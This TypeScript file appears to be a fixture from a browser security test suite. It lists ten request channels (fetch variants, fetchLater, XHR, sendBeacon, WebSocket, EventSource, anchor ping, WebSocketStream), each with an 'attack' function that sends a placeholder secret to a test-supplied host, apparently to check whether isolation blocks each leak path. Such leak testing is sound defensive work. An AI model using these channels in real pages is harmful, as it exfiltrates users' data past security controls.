import type { Channel } from "./channel.ts";

interface WithSocketStream {
  WebSocketStream: new (url: string) => unknown;
}

interface LateFetch {
  fetchLater(url: string, options: { activateAfter: number }): void;
}

/** Requests that script makes by itself. */
export const REQUESTS: readonly Channel[] = [
  {
    id: "fetch",
    family: "request",
    entry: 1,
    attack: (t) => fetch(`${t.base}/c?secret=1`),
  },
  {
    id: "fetch_nocors_post",
    family: "request",
    entry: 1,
    attack: (t) => fetch(`${t.base}/c`, { method: "POST", mode: "no-cors", body: "secret" }),
  },
  {
    id: "fetch_keepalive",
    family: "request",
    entry: 1,
    attack: (t) => fetch(`${t.base}/c?secret=1`, { keepalive: true, mode: "no-cors" }),
  },
  {
    id: "fetch_later",
    family: "request",
    entry: 18,
    attack: (t) =>
      (globalThis as unknown as LateFetch).fetchLater(`${t.tls}/c?secret=1`, { activateAfter: 50 }),
  },
  {
    id: "xhr",
    family: "request",
    entry: 1,
    attack: (t) => {
      const request = new XMLHttpRequest();
      request.open("GET", `${t.base}/c?secret=1`);
      request.send();
    },
  },
  {
    id: "beacon",
    family: "request",
    entry: 2,
    attack: (t) => navigator.sendBeacon(`${t.base}/c`, "secret"),
  },
  {
    id: "websocket",
    family: "request",
    entry: 3,
    attack: (t) => new WebSocket(`${t.socket}/c?secret=1`),
  },
  {
    id: "eventsource",
    family: "request",
    entry: 3,
    attack: (t) => new EventSource(`${t.base}/sse?secret=1`),
  },
  {
    id: "a_ping",
    family: "request",
    entry: 2,
    attack: (t) => t.element("a", { href: "#here", ping: `${t.base}/ping?secret=1` }).click(),
  },
  {
    id: "socket_stream",
    family: "request",
    entry: 3,
    attack: (t) => {
      const { WebSocketStream } = window as unknown as WithSocketStream;
      return new WebSocketStream(`${t.socket}/c?secret=1`);
    },
  },
];
